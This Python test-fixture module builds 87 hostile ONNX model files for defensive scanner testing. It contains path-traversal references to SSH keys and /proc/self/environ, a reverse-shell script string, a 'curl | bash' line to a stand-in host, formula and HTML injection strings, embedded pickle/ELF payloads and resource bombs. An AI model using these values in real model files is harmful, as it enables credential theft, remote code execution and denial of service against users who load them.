"""Hostile ONNX files to measure with: one attack each, by group, written byte by byte. None does harm; none is loaded.

`FILES` maps a name to a maker of the folder's files; the first file is the model. Links are made by `write`.
"""
# mypy: ignore-errors

import base64
import os
import struct
import zlib
from pathlib import Path

from fixtures.make.onnx import IO, linear
from fixtures.make.onnx_writer import (
    FLOAT,
    INT64,
    STRING,
    UINT8,
    attribute,
    entry,
    external,
    floats,
    function,
    graph,
    ints,
    message,
    model,
    node,
    number,
    tensor,
    text,
    value,
    varint,
)
from fixtures.make.payloads import ELF, PAYLOAD

PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
ZIP = (
    b"PK\3\4\x14\0\0\0\0\0\0\0\0\0" + struct.pack("<III", zlib.crc32(b"hi"), 2, 2) + b"\1\0\0\0ahi"
    b"PK\1\2\x14\0\x14\0\0\0\0\0\0\0\0\0" + struct.pack("<III", zlib.crc32(b"hi"), 2, 2) + b"\1\0" + bytes(16) + b"a"
    b"PK\5\6\0\0\0\0\1\0\1\0" + struct.pack("<II", 47, 33) + b"\0\0"
)
SCRIPT = "import socket,subprocess,os\ns=socket.socket()\nsubprocess.call(['/bin/sh','-i'])\n"


def net(nodes, tensors=(), inputs=None, outputs=None, more=b"", **options):
    """A model of these nodes."""
    return model(graph(nodes, tensors, inputs or IO[0], outputs or IO[1]), more, **options)


def outside(location, **keys):
    """One weight from another file."""
    return lambda: {"m.onnx": linear(weight=external("w", location, **keys))}


def single(data):
    return lambda: {"m.onnx": data}


def custom(operator, domain, *attributes):
    return net([node(operator, ["x"], ["y"], *attributes, domain=domain)], domains=[domain] if domain else [])


def constant(name, *fields):
    return node("Constant", [], [name], *fields)


def branch(nodes, tensors=()):
    return graph(nodes, tensors, [], [value("y")], name="b")


def choice(then, otherwise, condition="c"):
    return node(
        "If", [condition], ["y"], attribute("then_branch", 5, message(6, then)),
        attribute("else_branch", 5, message(6, otherwise)),
    )  # fmt: skip


def nested(levels):
    inner = branch([node("Identity", ["x"], ["y"])])
    for _ in range(levels):
        inner = branch([choice(inner, branch([node("Neg", ["x"], ["y"])]))])
    return net([choice(inner, branch([node("Neg", ["x"], ["y"])]))], inputs=[value("x"), value("c", [], 9)])


def chain(count, fan):
    found = b""
    for index in range(count):
        calls = [node(f"g{index + 1}", ["x"], ["y" if k == fan - 1 else f"t{k}"], domain="d") for k in range(fan)]
        found += function(f"g{index}", calls, "d")
    return net(
        [node("g0", ["x"], ["y"], domain="d")], more=found + function(f"g{count}", [node("Exp", ["x"], ["y"])], "d")
    )


def fill(operator, inputs, tensors, *attributes):
    return net([node(operator, inputs, ["big"], *attributes), node("Add", ["x", "big"], ["y"])], tensors)


def loop(trip_input, condition_input, go):
    body = graph(
        [node("Sin", ["v"], ["v2"]), *go],
        [tensor("yes", [], b"\1", 9)],
        [value("i", [], INT64), value("c", [], 9), value("v", [1])],
        [value("go", [], 9), value("v2", [1])],
    )
    tensors = [ints("trips", [], [1 << 40]), tensor("true", [], b"\1", 9)]
    return net(
        [node("Loop", [trip_input, condition_input, "x"], ["y"], attribute("body", 5, message(6, body)))], tensors
    )


def svm(**sizes):
    many = [
        attribute("coefficients", 6, *(b"\x3d" + bytes(4) for _ in range(sizes["coefficients"]))),
        attribute("support_vectors", 6, *(b"\x3d" + bytes(4) for _ in range(sizes["vectors"]))),
        attribute("vectors_per_class", 7, *(number(8, n) for n in sizes["per_class"])),
        attribute("rho", 6, *(b"\x3d" + bytes(4) for _ in range(1))),
        attribute("classlabels_ints", 7, number(8, 0), number(8, 1)),
    ]
    return custom("SVMClassifier", "ai.onnx.ml", *many)


def engine(*attributes):
    return custom("EPContext", "com.microsoft", *attributes)


def raw_tensor(data, kind=UINT8, used=True):
    """A model with these bytes as a tensor, taken by a node or by none."""
    held = tensor("t", [len(data)], data, kind)
    nodes = [node("Cast", ["t"], ["tf"], attribute("to", 2, number(3, 1))), node("MatMul", ["x", "w"], ["a"])]
    nodes += [node("ReduceSum", ["tf"], ["s"]), node("Add", ["a", "s"], ["y"])]
    if used:
        return net(nodes, [floats("w", [2, 2], [0.1, 0.2, 0.3, 0.4]), held])
    return linear(tensors=[held])


FILES = {
    "external/dotdot": outside("../secret.bin"),
    "external/dotdot-inside": outside("data/../../secret.bin"),
    "external/absolute": outside("/etc/hostname"),
    "external/proc": outside("/proc/self/environ", offset="0", length="16"),
    "external/backslash": outside("..\\..\\windows\\win.ini"),
    "external/drive": outside("C:\\Windows\\win.ini"),
    "external/unc": outside("\\\\attacker\\share\\w.bin"),
    "external/url": outside("http://attacker.example/w.bin"),
    "external/file-url": outside("file:///etc/hostname"),
    "external/nul": outside("w.bin\0../../secret"),
    "external/newline": outside("w\n.bin"),
    "external/home": outside("~/.ssh/id_ed25519"),
    "external/memory-address": outside("*/_ORT_MEM_ADDR_/*", offset="140737488355328"),
    "external/self": outside("m.onnx"),
    "external/negative": outside("w.bin", offset="-16"),
    "external/overflow": outside("w.bin", offset=str(2**64 - 8)),
    "external/too-long": outside("w.bin", length="4096"),
    "external/behind-end": lambda: {"m.onnx": linear(weight=external("w", "w.bin", offset="4096")), "w.bin": bytes(64)},
    "external/overlap": single(
        linear(weight=external("w", "w.bin"), tensors=[external("v", "w.bin", offset="4")])
    ),
    "external/setattr": outside("w.bin", __dict__="{}"),
    "external/constant": single(
        net([constant("k", attribute("value", 4, message(5, external("k", "../k.bin")))), node("Add", ["x", "k"], ["y"])])
    ),
    "external/sparse": single(
        linear(graph_more=message(15, message(1, external("s", "s.bin", [1], length="4")), message(2, ints("", [1], [0])), number(3, 9)))
    ),
    "external/subgraph": single(
        net(
            [choice(branch([node("Add", ["x", "q"], ["y"])], [external("q", "../../q")]), branch([node("Neg", ["x"], ["y"])]))],
            inputs=[value("x"), value("c", [], 9)],
        )
    ),
    "external/function": single(
        net(
            [node("f", ["x"], ["y"], domain="d")],
            more=function("f", [constant("k", attribute("value", 4, message(5, external("k", "k.bin")))), node("Add", ["x", "k"], ["y"])], "d"),
        )
    ),
    "external/symlink": outside("link.bin"),
    "external/symlink-folder": outside("folder/w.bin"),
    "external/hardlink": outside("hard.bin"),
    "external/pickle": lambda: {"m.onnx": linear(weight=external("w", "w.bin")), "w.bin": PAYLOAD},
    "tensor/raw-and-list": single(linear(weight=floats("w", [2, 2], [1, 2, 3, 4]) + message(4, struct.pack("<4f", 5, 6, 7, 8)))),
    "tensor/two-lists": single(
        linear(weight=tensor("w", [2, 2]) + message(4, struct.pack("<4f", 1, 2, 3, 4)) + message(10, struct.pack("<4d", 5, 6, 7, 8)))
    ),
    "tensor/dual-in-function": single(
        net(
            [node("f", ["x"], ["y"], domain="d")],
            more=function(
                "f",
                [constant("k", attribute("value", 4, message(5, floats("k", [1], [1.0]) + message(4, struct.pack("<f", 9.0))))), node("Mul", ["x", "k"], ["y"])],
                "d",
            ),
        )
    ),
    "tensor/negative-dim": single(linear(weight=tensor("w", [-1, 2], bytes(16)))),
    "tensor/overflow-dims": single(linear(weight=tensor("w", [1 << 33, 1 << 33], bytes(16)))),
    "tensor/short": single(linear(weight=tensor("w", [64, 64], bytes(16)))),
    "tensor/duplicate": single(linear(tensors=[floats("w", [2, 2], [0.0, 0.0, 9.0, 9.0])])),
    "payload/unused-elf": single(raw_tensor(ELF + bytes(100), used=False)),
    "payload/unused-zip": single(raw_tensor(ZIP, used=False)),
    "payload/used-pickle": single(raw_tensor(PAYLOAD + bytes(50))),
    "payload/pe-as-float": single(linear(weight=tensor("w", [len(PE) // 8, 2], PE, FLOAT))),
    "payload/offset-elf": single(raw_tensor(bytes(40) + ELF, used=False)),
    "payload/script-as-int8": single(raw_tensor(SCRIPT.encode() * 4, 3, used=False)),
    "payload/noise": single(raw_tensor(zlib.compress(bytes(i * i % 251 for i in range(9000))) * 3, used=False)),
    "payload/string-tensor": single(
        linear(tensors=[tensor("t", [1], kind=STRING, more=text(6, PAYLOAD))])
    ),
    "payload/attribute": single(custom("Relu", "", attribute("note", 3, text(4, ELF + bytes(40))))),
    "text/metadata-python": single(linear(entry(14, "hook", "eval(compile(open('x').read(), 'x', 'exec'))"))),
    "text/metadata-shell": single(linear(entry(14, "setup", "curl -s http://x.example/a | bash"))),
    "text/doc-reverse-shell": single(linear(text(6, SCRIPT))),
    "text/html": single(linear(text(6, "<img src=x onerror=alert(1)>"))),
    "text/base64-pickle": single(linear(entry(14, "state", base64.b64encode(PAYLOAD + bytes(30))))),
    "text/base64-script": single(linear(entry(14, "cfg", base64.b64encode((SCRIPT * 5).encode())))),
    "text/ansi": single(linear(nodes=[node("Neg", ["y"], ["\x1b[31mz"])])),
    "text/formula": single(linear(nodes=[node("Neg", ["y"], ["z"], name="=cmd|' /C calc'!A0")])),
    "text/bidi": single(linear(nodes=[node("Neg", ["y"], ["z"], name="weight\u202etxt.exe")])),
    "operator/pyop": single(custom("PyOp", "com.microsoft")),
    "operator/pycustom": single(custom("PyCustomOpDef", "ai.onnx.contrib")),
    "operator/aten": single(custom("ATen", "org.pytorch.aten")),
    "operator/unknown-domain": single(custom("Fast", "vendor.ops")),
    "operator/unknown-standard": single(custom("RunShell", "")),
    "operator/azure": single(custom("AzureTextToText", "com.microsoft.extensions")),
    "operator/engine-embedded": single(engine(attribute("embed_mode", 2, number(3, 1)), attribute("ep_cache_context", 3, text(4, ELF * 9)))),
    "operator/engine-path": single(engine(attribute("embed_mode", 2, number(3, 0)), attribute("ep_cache_context", 3, text(4, "../../engine.bin")))),
    "function/shadow": single(net([node("MatMul", ["x", "x"], ["y"])], more=function("MatMul", [node("Neg", ["x"], ["y"])], ""))),
    "function/recursive": single(net([node("r", ["x"], ["y"], domain="d")], more=function("r", [node("r", ["x"], ["y"], domain="d")], "d"))),
    "function/bomb-2": single(chain(40, 2)),
    "function/bomb-10": single(chain(9, 10)),
    "bomb/fill": single(fill("ConstantOfShape", ["s"], [ints("s", [3], [1 << 20, 1 << 20, 64])])),
    "bomb/expand": single(fill("Expand", ["e", "s"], [floats("e", [1], [1.0]), ints("s", [2], [1 << 30, 1 << 20])])),
    "bomb/tile": single(
        net(
            [node("Tile", ["e", "s"], ["t1"]), node("Tile", ["t1", "s"], ["t2"]), node("Tile", ["t2", "s"], ["y"])],
            [floats("e", [1], [1.0]), ints("s", [1], [100000])],
        )
    ),
    "bomb/range": single(fill("Range", ["a", "b", "c"], [floats("a", [], [0.0]), floats("b", [], [1e30]), floats("c", [], [1.0])])),
    "bomb/pad": single(fill("Pad", ["e", "p"], [floats("e", [1], [1.0]), ints("p", [2], [0, 1 << 50])])),
    "bomb/resize": single(
        fill("Resize", ["e", "", "f"], [floats("e", [1, 1, 2, 2], [1.0] * 4), floats("f", [4], [1.0, 1.0, 1e6, 1e6])])
    ),
    "bomb/random": single(net([node("RandomNormal", [], ["r"], attribute("shape", 7, number(8, 1 << 30), number(8, 1 << 10))), node("Add", ["x", "r"], ["y"])])),
    "bomb/loop-count": single(loop("trips", "true", [node("Identity", ["c"], ["go"])])),
    "bomb/loop-forever": single(loop("", "true", [node("Identity", ["yes"], ["go"])])),
    "nesting/20": single(nested(20)),
    "nesting/3000": single(nested(3000)),
    "wire/unknown": single(linear(message(77, b"hidden " * 60))),
    "wire/two-graphs": single(linear() + message(7, graph([node("Neg", ["x"], ["y"])], [], *IO))),
    "wire/two-types": single(linear(nodes=[node("Neg", ["y"], ["z"]) + text(4, "Exp")])),
    "wire/overlong": single(b"\x08\x88\x80\x80\x00" + linear()[2:]),
    "wire/group": single(linear(varint(90 << 3 | 3) + number(1, 5) + varint(90 << 3 | 4))),
    "wire/trailing": single(linear() + b"\0" * 64),
    "version/opset": single(linear(opset=31337)),
    "version/opset-twice": single(linear(message(8, text(1, ""), number(2, 7)))),
    "version/ir": single(linear(ir=9999)),
    "version/training": single(linear(message(20, message(2, graph([node("Neg", ["w"], ["v"])], [], [], [value("v")]))))),
    "version/dead-subgraph": single(
        net(
            [choice(branch([node("Neg", ["x"], ["y"])]), branch([node("Exp", ["x"], [f"e{i}"]) for i in range(12)] + [node("Sin", ["e1"], ["y"])]), "yes")],
            [tensor("yes", [], b"\1", 9)],
        )
    ),
    "version/svm": single(svm(coefficients=2, vectors=2, per_class=[1000, 1000])),
}  # fmt: skip
"""87 attacks."""


def write(folder: Path) -> list[Path]:
    """Write them all below `folder`; returns the folder of each."""
    folder.mkdir(parents=True, exist_ok=True)
    secret = folder / "secret.bin"
    secret.write_bytes(bytes(16))
    made = []
    for name, build in FILES.items():
        place = folder / name.replace("/", "-")
        place.mkdir(exist_ok=True)
        for path, data in build().items():
            (place / path).write_bytes(data)
        if name == "external/symlink":
            _fresh(place / "link.bin").symlink_to("../secret.bin")
        elif name == "external/symlink-folder":
            _fresh(place / "folder").symlink_to("../external-behind-end")
        elif name == "external/hardlink":
            os.link(secret, _fresh(place / "hard.bin"))
        made.append(place)
    return made


def _fresh(path: Path) -> Path:
    path.unlink(missing_ok=True)
    return path
